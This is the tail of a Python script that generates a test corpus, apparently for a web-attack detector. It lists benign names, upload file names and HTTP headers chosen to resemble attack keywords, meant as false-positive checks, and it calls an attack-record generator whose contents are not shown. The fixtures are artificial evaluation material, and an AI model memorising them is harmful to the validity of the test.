    ("Shell Garage Ltd", "Ring Rd 5, Leeds"),
    ("Citrix Fan Page", "Palm Beach Blvd 9, Fort Lauderdale"),
    ("Angular Bikes", "Bergstraße 3, Zürich"),
    ("Vue Point Photography", "Harbour Rd 1, Cork"),
    ("Ana O'Hara", "Calle Sol 8, Sevilla"),
    ("Zoë Marchand", "5 Rue de la Paix, Paris"),
    ("Tomcat Pet Supplies", "Cat Alley 9, Ghent"),
    ("Phoenix PHP Meetup", "Roosevelt St 100, Phoenix"),
]
UPLOAD_NAMES = [
    "wordpress-backup-2024-05.zip", "php-cheatsheet.pdf", "phpinfo-screenshot.png", "drupal-upgrade-plan.docx",
    "magento-invoice-1042.pdf", "jira-export.csv", "confluence-space-export.zip", "grafana-dashboard.json",
    "htaccess-notes.txt", "logo.svg", "shell-company-report.pdf", "script-final-draft.docx", "alert-rules.yaml",
    "thinkphp-audit-findings.pdf", "laravel-ignition-writeup.md", "sharepoint-migration.xlsx", "citrix-receipt.pdf",
    "team photo (offsite).jpg", "résumé - Zoë.pdf",
]
BENIGN_HEADERS = [
    ("User-Agent", "WordPress/6.5.3; https://blog.example.com"),
    ("User-Agent", "Drupal (+https://www.drupal.org/)"),
    ("User-Agent", "GitLab/16.11.2"),
    ("User-Agent", "Jenkins/2.440.3"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Zabbix"),
    ("User-Agent", "check_http/v2.3.3 (nagios-plugins 2.3.3)"),
    ("User-Agent", "Atlassian HttpClient 3.0.4 / JIRA-9.12.2 (912002) / Default"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80"),
    ("User-Agent", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"),
    ("User-Agent", "PHP/8.3.6"),
    ("User-Agent", "GuzzleHttp/7"),
    ("Referer", "https://blog.example.com/wp-admin/post.php?post=42&action=edit"),
    ("Referer", "https://example.atlassian.net/browse/SUP-1234"),
    ("Referer", "https://grafana.example.com/d/abc123/api-latency?orgId=1&from=now-6h&to=now"),
    ("Referer", "https://shop.example.com/checkout/cart/"),
    ("Referer", "https://www.google.com/search?q=php+unserialize+json_decode"),
    ("Cookie", "session=abc123; wp-settings-1=libraryContent%3Dbrowse; wordpress_test_cookie=WP%20Cookie%20check"),
    ("Cookie", "session=abc123; PHPSESSID=9r6f0c1k2l3m4n5o6p7q8r9s0t; lang=en"),
    ("Accept-Charset", "utf-8, iso-8859-1;q=0.5"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
